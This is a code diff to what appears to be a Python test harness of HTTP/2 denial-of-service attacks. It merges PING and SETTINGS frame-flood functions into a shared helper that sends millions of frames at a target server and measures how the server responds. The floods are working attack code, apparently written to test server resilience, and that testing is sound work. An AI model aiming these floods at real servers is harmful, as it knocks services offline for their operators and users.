@@ -12,6 +12,9 @@ from target import HEAD, IDLE
 # All the window that a connection may have.
 WIDE = frame(WINDOW_UPDATE, 0, 0, bytes((0x3F, 0xFF, 0xFF, 0xFF)))
 
+# Settings that the server has to acknowledge: so many streams at once.
+ONE_SETTING = frame(SETTINGS, 0, 0, bytes((0, 3, 0, 0, 0, 100)))
+
 
 def sent_until_closed(attacker, pieces, seconds=5):
     """How many of the pieces went out before the server closed the connection, or the time was over."""
@@ -75,11 +78,7 @@ def empty_continuation(target):
     server=16,
 )
 def pings(target):
-    attacker = Attacker(target.http)
-    sent = sent_until_closed(attacker, [frame(PING, 0, 0, bytes(8)) * 100] * 20000, 4)
-    seen = Seen(f"{sent * 100:,}", f"{attacker.acknowledged:,} answered, {attacker.end()}")
-    attacker.close()
-    return seen
+    return without_a_pause(target, frame(PING, 0, 0, bytes(8)))
 
 
 @attack(
@@ -97,7 +96,7 @@ def unread_pings(target):
     server=16,
 )
 def unread_settings(target):
-    return unread_answers(target, frame(SETTINGS, 0, 0, bytes((0, 3, 0, 0, 0, 100))) * 1000)
+    return unread_answers(target, ONE_SETTING * 1000)
 
 
 def unread_answers(target, piece):
@@ -123,8 +122,12 @@ def unread_answers(target, piece):
 
 @attack("SETTINGS without a pause", "each costs an answer; a connection without requests ends", server=16)
 def settings(target):
+    return without_a_pause(target, ONE_SETTING)
+
+
+def without_a_pause(target, piece):
     attacker = Attacker(target.http)
-    sent = sent_until_closed(attacker, [frame(SETTINGS, 0, 0, bytes((0, 3, 0, 0, 0, 100))) * 100] * 20000, 4)
+    sent = sent_until_closed(attacker, [piece * 100] * 20000, 4)
     seen = Seen(f"{sent * 100:,}", f"{attacker.acknowledged:,} answered, {attacker.end()}")
     attacker.close()
     return seen
